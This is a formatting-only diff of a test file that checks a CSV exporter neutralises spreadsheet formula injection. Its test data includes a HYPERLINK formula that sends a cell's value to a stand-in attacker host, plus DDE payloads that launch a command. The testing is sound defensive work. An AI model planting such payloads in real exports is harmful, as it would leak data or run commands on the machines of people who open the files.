@@ -11,8 +11,8 @@ describe('CSV cells a spreadsheet would run as formulas are neutralised (OWASP C
   const hostile = [
     '=HYPERLINK("http://evil.example/?"&B2,"open")',
     '+91 98220 12345',
-    '-2+3+cmd|\' /C calc\'!A0',
-    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     '\t=1+1',
     '\r=1+1',
     '-5',
@@ -43,8 +43,20 @@ describe('CSV cells a spreadsheet would run as formulas are neutralised (OWASP C
     expect(csvCell('a;=1+1')).toBe('"a;=1+1"'); // ";" separates cells in many locales
     expect(csvCell('say "hi"')).toBe('"say ""hi"""');
     expect(csvCell('line\n=1+1')).toBe('"line\n=1+1"');
-    const rows = parse(csvText(['name', 'age'], [['x,=1+1', 3], ['=cmd', -1]]));
-    expect(rows).toEqual([['name', 'age'], ['x,=1+1', '3'], ["'=cmd", '-1']]);
+    const rows = parse(
+      csvText(
+        ['name', 'age'],
+        [
+          ['x,=1+1', 3],
+          ['=cmd', -1],
+        ],
+      ),
+    );
+    expect(rows).toEqual([
+      ['name', 'age'],
+      ['x,=1+1', '3'],
+      ["'=cmd", '-1'],
+    ]);
   });
 
   it('the linkage CSV writer (labelled pairs, the link CLI) uses the same rule', () => {
@@ -53,7 +65,10 @@ describe('CSV cells a spreadsheet would run as formulas are neutralised (OWASP C
   });
 
   it('tableFile: a CSV export neutralises names and keeps numbers; the Excel file stores text as text', async () => {
-    const rows = [{ name: '=HYPERLINK("http://evil.example","x")', age: 7, phone: '+919822012345' }, { name: 'Sneha', age: -1, phone: null }];
+    const rows = [
+      { name: '=HYPERLINK("http://evil.example","x")', age: 7, phone: '+919822012345' },
+      { name: 'Sneha', age: -1, phone: null },
+    ];
     const columns = [
       { key: 'name', header: 'name', value: (r: (typeof rows)[number]) => r.name },
       { key: 'age', header: 'age', value: (r: (typeof rows)[number]) => r.age },
@@ -63,7 +78,11 @@ describe('CSV cells a spreadsheet would run as formulas are neutralised (OWASP C
     expect(csv.contentType).toBe('text/csv; charset=utf-8');
     const text = csv.body.toString('utf8');
     expect(text.startsWith('\uFEFF')).toBe(true);
-    expect(parse(text)).toEqual([['name', 'age', 'phone'], [`'${rows[0].name}`, '7', "'+919822012345"], ['Sneha', '-1', '']]);
+    expect(parse(text)).toEqual([
+      ['name', 'age', 'phone'],
+      [`'${rows[0].name}`, '7', "'+919822012345"],
+      ['Sneha', '-1', ''],
+    ]);
     expect(text).not.toMatch(/(^|[\n,])=HYPERLINK/);
   });
 });
